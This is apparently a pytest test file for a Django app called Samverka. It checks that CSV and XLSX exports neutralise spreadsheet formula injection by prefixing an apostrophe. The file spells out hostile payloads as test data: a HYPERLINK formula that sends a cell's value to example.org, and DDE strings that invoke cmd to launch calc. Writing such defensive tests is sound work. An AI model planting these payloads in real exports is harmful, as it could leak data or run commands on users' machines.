"""Formula injection (issue 17, finding 5): text that a spreadsheet would run as a formula is planted in
the text fields that reach every CSV and XLSX Samverka writes, and every cell of every export is read
back: no cell of a download may start a formula, each planted text arrives as inert text (a leading
apostrophe), and numbers, negative ones included, stay numbers."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from samverka.activities.models import Activity
from samverka.core.exports import neutralise
from samverka.core.formulas import restore
from samverka.core.models import Municipality
from samverka.indicators.models import Indicator
from samverka.promises.models import Promise
from samverka.reports.models import MunicipalitySettings

HYPERLINK = '=HYPERLINK("http://example.org/?q="&A1,"Klicka")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3"
TAB = "\t=1+1"
CR = "\r=2+2"
PAYLOADS = [HYPERLINK, DDE, AT_SUM, MINUS, TAB, CR]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text", PAYLOADS)
def test_text_starting_a_formula_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -2.5, Decimal("-0.75"), 0, None, "-2,5", "-17", "+4", "Arjeplog", ""])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("text", [*PAYLOADS, "-", "@", "Arjeplog", "-2,5", "'t is", "'prel", ""])
def test_reading_a_cell_back_takes_off_only_the_apostrophe_neutralise_added(text):
    assert restore(neutralise(text)) == text


def test_an_already_neutralised_cell_is_not_changed_again():
    assert neutralise(neutralise(HYPERLINK)) == "'" + HYPERLINK


@pytest.fixture
def planted(places, users):
    """All demo data, with the payloads in the text fields each export reads."""
    call_command("demo", stdout=io.StringIO())
    activity = Activity.objects.filter(municipality=places["arjeplog"], published=True).first()
    Activity.objects.filter(pk=activity.pk).update(title=HYPERLINK, summary=DDE, frequency=MINUS)
    Municipality.objects.filter(slug="kiruna").update(name=AT_SUM)
    MunicipalitySettings.objects.update_or_create(
        municipality=places["arjeplog"], defaults={"coordinator_title": TAB, "coordinating_function": CR}
    )
    Indicator.objects.update(name_sv=HYPERLINK, name_en=HYPERLINK)
    promise = Promise.objects.filter(municipality=places["arjeplog"]).order_by("start").last()
    Promise.objects.filter(pk=promise.pk).update(title=DDE)
    promise.commitments.update(text=AT_SUM)
    return promise


def _csv_cells(response):
    body = response.getvalue() if response.streaming else response.content
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
    return [cell for row in rows for cell in row], []


def _xlsx_cells(response):
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    return [c.value for c in cells], [c for c in cells if c.data_type == "f"]


def _read(response):
    assert response.status_code == 200
    if response["Content-Type"].startswith("text/csv"):
        return _csv_cells(response)
    return _xlsx_cells(response)


def _assert_inert(cells, formulas, expected):
    assert formulas == [], f"live formulas: {[f.value for f in formulas]}"
    starting = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_START)]
    assert all(neutralise(c) == c for c in starting), starting  # only plain numbers may start so
    for text in expected:
        assert "'" + text in cells, f"{text!r} is not in the file as inert text"


def test_the_open_data_files_carry_no_formula(planted, client):
    for url in ["/p/data.csv", "/p/arjeplog/data.csv"]:
        _assert_inert(*_read(client.get(url)), [HYPERLINK, DDE, MINUS])


def test_the_catalogue_exports_carry_no_formula(planted, client_for, users):
    client = client_for(users["coordinator"])
    for name in ["activities:export_csv", "activities:export_xlsx"]:
        _assert_inert(*_read(client.get(reverse(name, args=["arjeplog"]))), [HYPERLINK, DDE, MINUS])


def test_the_county_overview_carries_no_formula(planted, client_for, users):
    client = client_for(users["county"])
    for fmt in ["csv", "xlsx"]:
        response = client.get(reverse("reports:county_export", args=["norrbotten", fmt]))
        _assert_inert(*_read(response), [AT_SUM])


def test_lansrapporten_carries_no_formula(planted, client_for, users):
    response = client_for(users["coordinator"]).get("/rapporter/kommun/arjeplog/lansrapporten.xlsx")
    _assert_inert(*_read(response), [TAB, CR])


def test_the_public_figures_of_a_lagesbild_carry_no_formula(planted, client):
    from samverka.situation.models import SituationReport

    report = SituationReport.objects.get(title="Lägesbild Arjeplog 2023")
    response = client.get(reverse("public:situation_public:export_csv", args=["arjeplog", report.pk]))
    cells, formulas = _read(response)
    _assert_inert(cells, formulas, [HYPERLINK])


def test_the_yearly_promise_report_carries_no_formula(planted, client_for, users):
    year = planted.start.year
    response = client_for(users["coordinator"]).get(
        reverse("promises:report", args=["arjeplog", "xlsx"]) + f"?ar={year}"
    )
    _assert_inert(*_read(response), [DDE, AT_SUM])


def test_negative_numbers_stay_numbers_in_xlsx():
    from samverka.core.exports import xlsx_bytes

    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"S": (["a", "b", "c"], [[-3, -2.5, MINUS]])})))
    (row,) = book["S"].iter_rows(min_row=2)
    assert [(c.value, c.data_type) for c in row] == [(-3, "n"), (-2.5, "n"), ("'" + MINUS, "s")]
